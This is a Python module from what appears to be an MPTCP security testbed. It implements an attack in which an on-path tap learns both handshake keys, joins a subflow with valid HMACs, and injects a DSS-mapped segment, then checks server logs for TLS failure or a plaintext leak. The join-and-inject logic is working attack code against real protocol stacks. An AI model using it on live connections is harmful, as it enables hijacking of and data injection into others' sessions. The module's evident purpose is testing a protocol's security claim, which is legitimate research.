"""``join_with_keys``: the residual threat of RFC 7430 (claim A3).

A tap on the initial path records the victim's MP_CAPABLE handshake with its OWN capture
(not the testbed's), which carries both 64-bit keys in the clear. From them it derives
the server's token and computes every HMAC, so it joins from its own address: the server
ACCEPTS the subflow (MPTcpExtMPJoinAckRx). It then injects a DSS-mapped segment at the
data sequence number the server expects next (read from the server's data-ACKs on the
tap): the server's MPTCP layer acknowledges it at the data level, so the bytes enter the
connection's byte stream. Shaped as a TLS application_data record, they fail the AEAD
check: the server's TLS aborts with bad_record_mac (read from the python server's log),
nothing forged reaches the application. The article's "impossible to join" holds only for
attackers that never saw the initial handshake: QUALIFIED.

With the plaintext control (``app: {kind: python, tls: false}``, playbook
``a3_join_plain``) the same injection reaches the server application: its log shows the
bytes it received from the client's side (to which the client sends nothing), and the
report compares their SHA-256 with the injected bytes' (``injected_reached_server_app``).
"""

from __future__ import annotations

import json
from typing import Any, ClassVar

from attacks._mptcp_active import ActiveMptcpAttack
from testbed.model import mptcp
from testbed.model.params import ParamSpec


def expand_dsn(near: int, low32: int) -> int:
    """The 64-bit data sequence number whose low 32 bits are ``low32``, closest to
    ``near`` (RFC 8684 §3.3.1: a 32-bit DSN or data-ACK is expanded against the current
    64-bit value; here the client's IDSN + 1, within 2^31 bytes of its data)."""
    mask = mptcp.MASK64
    cand = ((near & ~0xFFFFFFFF) | (low32 & 0xFFFFFFFF)) & mask
    if cand - near > 1 << 31:
        cand -= 1 << 32
    elif near - cand > 1 << 31:
        cand += 1 << 32
    return cand & mask


class JoinWithKeys(ActiveMptcpAttack):
    kind: ClassVar[str] = "join_with_keys"
    description: ClassVar[str] = ("tap on the initial path learns both keys from its own "
                                  "capture, joins from its own address with correct HMACs "
                                  "(accepted), then injects a DSS-mapped TLS-looking record "
                                  "(A3)")
    positions: ClassVar[tuple[str, ...]] = ("tap",)
    own_capture: ClassVar[bool] = True
    params: ClassVar[dict[str, ParamSpec]] = {
        "inject_bytes": ParamSpec("inject_bytes", int, 64,
                                  "bytes injected after the join (0: join only)", lo=0, hi=1400),
    }

    result: dict[str, Any] | None = None
    client_port: int | None = None

    def act(self) -> None:
        learned = self.keys_from_own_capture()
        if learned is None:
            self.result = {"error": "no MP_CAPABLE handshake with both keys in the "
                                    "attacker's own capture", "keys_learned": False}
            return
        client_key, server_key, self.client_port = learned
        inject = int(self.values["inject_bytes"])
        if inject and inject < 22:
            inject = 22  # a record header and an AEAD tag at least
        dsn = self.server_data_ack(self.client_port) if inject else None
        if dsn is not None and dsn <= 0xFFFFFFFF:
            # A 32-bit data-ACK on the wire: the full 64-bit DSN follows from the client's
            # IDSN, which the learned client key gives (a 64-bit DSN is taken as is).
            dsn = expand_dsn(mptcp.idsn(client_key) + 1, dsn)
        checksum = any(cap.flags & mptcp.CAPABLE_FLAG_CHECKSUM
                       for seg in self.own_segments()
                       if (cap := seg.first(mptcp.MpCapable)) is not None)
        cmd: dict[str, Any] = {"op": "join", "server": self.ctx.server_address,
                               "port": self.ctx.port, "token": mptcp.token(server_key),
                               "hmac": "keys", "keys": [client_key, server_key],
                               "checksum": checksum}
        if dsn is not None:
            cmd.update(inject_dsn=dsn, inject_len=inject)
        reply = self.ask(cmd)
        reply.update(keys_learned=True, keys_source="the attacker's own tap capture",
                     client_key=f"{client_key:016x}", server_key=f"{server_key:016x}",
                     attacker_address=self.ctx.address, dss_checksum=checksum,
                     victim_client_port=self.client_port)
        if inject and dsn is None:
            reply["error"] = "no data-ACK of the server seen: nothing injected"
        self.result = reply

    def finish(self) -> dict[str, Any]:
        report = self.result or {"error": "the attack did not act"}
        event = self._server_conn_event()
        report["victim_server_tls"] = self._server_tls_outcome(event)
        if event is not None and event.get("plaintext"):
            # The plaintext control (app.tls: false): the server logs what it received
            # from the client's side of the connection, to which the client sends nothing.
            got = event.get("received_sha256")
            report.update(victim_server_received_bytes=event.get("received_bytes"),
                          victim_server_received_sha256=got,
                          victim_server_received_head_hex=event.get("received_head_hex"),
                          injected_reached_server_app=bool(
                              got and got == report.get("injected_sha256")))
        return report

    def _server_conn_event(self) -> dict[str, Any] | None:
        """What the victim server's log says about the victim connection (python app
        only): its ``conn`` line, or with the plaintext app the latest ``received`` line
        merged in order (a desynchronised connection may never log ``conn``)."""
        log = self.ctx.evidence_dir / "python-server.log"
        if not log.exists() or self.client_port is None:
            return None
        merged: dict[str, Any] | None = None
        for line in log.read_text(errors="replace").splitlines():
            try:
                event = json.loads(line)
            except json.JSONDecodeError:
                continue
            if isinstance(event, dict) and event.get("event") in ("conn", "received") and \
                    (event.get("peer") or {}).get("port") == self.client_port:
                merged = {**(merged or {}), **event}
        return merged

    @staticmethod
    def _server_tls_outcome(event: dict[str, Any] | None) -> str:
        """What the victim's server said about the victim connection, from its own log
        (python app only): ``bad_record_mac``, ``clean``, ``no_tls`` (the plaintext
        control) or the error text."""
        if event is None:
            return "unknown"
        if event.get("plaintext"):
            return "no_tls"
        text = f"{event.get('error') or ''} {event.get('close_notify') or ''}"
        if "bad record mac" in text.lower() or "bad_record_mac" in text.lower():
            return "bad_record_mac"
        return "clean" if event.get("close_notify") == "exchanged" and \
            not event.get("error") else text.strip()[:200]
